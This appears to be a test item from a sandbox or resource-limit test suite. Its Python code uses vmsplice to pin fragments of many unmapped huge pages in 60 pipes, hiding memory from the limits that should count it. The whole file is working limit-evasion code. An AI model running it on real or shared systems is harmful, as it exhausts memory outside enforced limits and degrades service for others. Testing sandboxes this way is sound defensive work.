# tries: have pipes hold a few bytes of each of many huge pages that are then unmapped, so that no limit counts them
# safe: a pipe holds no page of a process
# score: full
# cell: derivative_at
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
HUGE = 1 << 21


class Part(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def hold(pipe):
    place = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
    page = (place + HUGE - 1) // HUGE * HUGE
    try:
        libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(HUGE), 14)  # MADV_HUGEPAGE
        ctypes.memset(page, 1, HUGE)
        system_call(278, 75, pipe, ctypes.byref(Part(page, 4096)), 1, 2)  # vmsplice
    finally:
        libc.munmap(place, 2 * HUGE)


pipes = [os.pipe() for _ in range(60)]
all(attempt(lambda: hold(end), "memory in pipes that no limit counts") for _, end in pipes for _ in range(15))
for pair in pipes:
    for end in pair:
        os.close(end)
### SOLUTION
